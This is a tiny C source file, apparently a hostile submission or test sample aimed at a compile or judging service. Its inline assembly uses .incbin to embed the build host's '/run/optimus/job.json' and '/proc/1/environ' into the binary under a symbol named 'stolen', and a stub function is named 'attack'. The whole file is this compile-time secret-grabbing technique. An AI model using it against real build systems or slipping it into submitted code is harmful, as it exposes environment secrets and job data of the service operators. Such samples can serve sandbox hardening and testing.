#include "hostile.h"
__asm__(".section .rodata\nstolen:\n.incbin \"/run/optimus/job.json\"\n.incbin \"/proc/1/environ\"\n.text\n");
int attack(void) { return 0; }
